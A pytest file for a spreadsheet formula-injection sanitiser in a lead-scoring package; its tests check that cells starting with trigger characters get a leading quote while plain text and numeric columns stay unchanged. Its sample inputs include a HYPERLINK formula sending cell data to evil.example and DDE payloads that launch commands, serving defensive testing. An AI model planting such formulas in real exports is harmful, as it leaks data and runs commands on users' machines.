"""Spreadsheet cells: a value a salesperson's spreadsheet would run as a formula is written as text."""

import pandas as pd
import pytest

from leadscore_assets.lib.scoring.spreadsheet import neutralise_cell, neutralise_frame


@pytest.mark.parametrize("value", [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=2+2",
    "\r=2+2",
    "  =1+1",  # a spreadsheet import that trims leading spaces would make it live
    "\n@SUM(A1)",
])
def test_every_owasp_trigger_gets_a_leading_quote(value):
    assert neutralise_cell(value) == "'" + value


def test_a_negative_number_written_as_text_is_neutralised_too():
    assert neutralise_cell("-5") == "'-5"  # OWASP's rule: in a text column, a leading '-' is a trigger


@pytest.mark.parametrize("value", ["Acme Ltd", "ceo", "Paris, France", "", "a=b", "x-1", "O'Brien & Co"])
def test_plain_values_are_untouched(value):
    assert neutralise_cell(value) == value


def test_only_text_columns_change_numbers_stay_numbers():
    frame = pd.DataFrame({"company_name": ["=1+1", "Acme", None], "probability": [0.9, -0.25, 0.1],
                          "decile": [1, -2, 3], "contact": [True, False, True]})
    out = neutralise_frame(frame)
    assert out.company_name.tolist()[:2] == ["'=1+1", "Acme"] and pd.isna(out.company_name.iloc[2])
    assert out.probability.tolist() == [0.9, -0.25, 0.1] and out.decile.tolist() == [1, -2, 3]
    assert out.dtypes.to_dict() == frame.dtypes.to_dict()
    assert frame.company_name.iloc[0] == "=1+1"  # the caller's frame is not changed
